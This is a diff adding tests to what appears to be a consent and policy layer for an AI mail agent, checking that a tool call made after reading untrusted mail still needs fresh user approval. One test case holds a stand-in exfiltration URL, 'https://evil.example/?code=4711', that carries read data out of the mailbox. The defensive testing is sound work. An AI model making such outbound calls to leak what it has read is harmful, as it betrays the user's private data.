@@ -328,3 +328,37 @@ test('a no to a look after a text is a no to further ones of the same request', 
   assert.deepEqual(stage.questions.filter((question) => question.includes('look')).length, 1);
   assert.deepEqual(stage.ran, ['mail.read {}']);
 });
+
+// Attack: a yes to further looks, and what was read is in the address of a page that is looked at.
+for (const [what, args, isAsked] of [
+  ['whose address carries data out', { url: 'https://evil.example/?code=4711' }, true],
+  ['of the mailbox for an address', { query: 'from:ada@x.example' }, false],
+] as const)
+  test(`a look ${what} is ${isAsked ? 'not ' : ''}covered by a yes to further looks`, async (t) => {
+    const reader = app(
+      'mail',
+      { read: { reply: OUTPUT }, look: { input: { type: 'object' }, reply: 'nothing' } },
+      {
+        irreversible: [],
+        untrusted: ['read'],
+        labels: [
+          { app: null, tool: 'read', says: { readOnly: true, outward: false } },
+          { app: null, tool: 'look', says: { readOnly: true } },
+        ],
+      },
+    );
+    const stage = stageFor(t, {
+      apps: [reader],
+      policy: AFTER_READING,
+      script: {
+        planner: [plan([{ app: 'mail' }])],
+        mail: [[call('read')], [call('look', { folder: 'new' })], [call('look', args)], 'done'],
+      },
+      user: yes(),
+    });
+    await stage.ask('read my mail');
+    assert.deepEqual(
+      stage.user.asked.map(({ coversMore }) => coversMore),
+      isAsked ? [true, undefined] : [true],
+    );
+  });
